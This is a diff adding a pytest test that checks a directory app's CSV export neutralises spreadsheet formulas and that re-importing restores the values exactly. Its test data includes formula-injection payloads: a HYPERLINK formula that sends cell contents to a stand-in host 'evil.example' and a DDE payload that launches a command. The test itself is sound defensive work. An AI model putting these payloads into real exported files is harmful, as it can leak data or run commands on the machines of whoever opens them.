@@ -114,3 +114,33 @@ def test_command_imports_and_reports_errors(countries, tmp_path, capsys):
     with pytest.raises(CommandError, match="Nothing was imported"):
         call_command("directory", "import", str(bad))
     assert "row 2, field country" in capsys.readouterr().err
+
+
+FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example/"&A1,"Click")',
+    "address": "=cmd|' /C calc'!A0",
+    "requirements": "+SUM(1,2)",
+    "formalities_notes": "@SUM(A1:A9)",
+    "office_hours": "-2+3",
+    "source_note": "'quoted already",
+}
+
+
+def test_csv_export_neutralises_formulas_and_the_import_gives_them_back_exactly(ukr_moj):
+    from comity.directory import services
+    from comity.directory.transfer import authority_as_data
+
+    data = {**authority_as_data(ukr_moj), **FORMULAS}
+    services.update_authority(authority=ukr_moj, data=data, actor=None)
+    exported = export_csv(Authority.objects.filter(pk=ukr_moj.pk))
+    import csv
+    import io
+
+    row = next(csv.DictReader(io.StringIO(exported)))
+    for field, value in FORMULAS.items():
+        assert row[field] == "'" + value, field  # a spreadsheet shows it as text, never runs it
+    assert row["phone"].startswith("'+")
+    before = authority_as_data(Authority.objects.get(pk=ukr_moj.pk))
+    report = _import(exported)
+    assert report.ok and (report.updated, report.unchanged) == (0, 1), report.as_dict()
+    assert authority_as_data(Authority.objects.get(pk=ukr_moj.pk)) == before
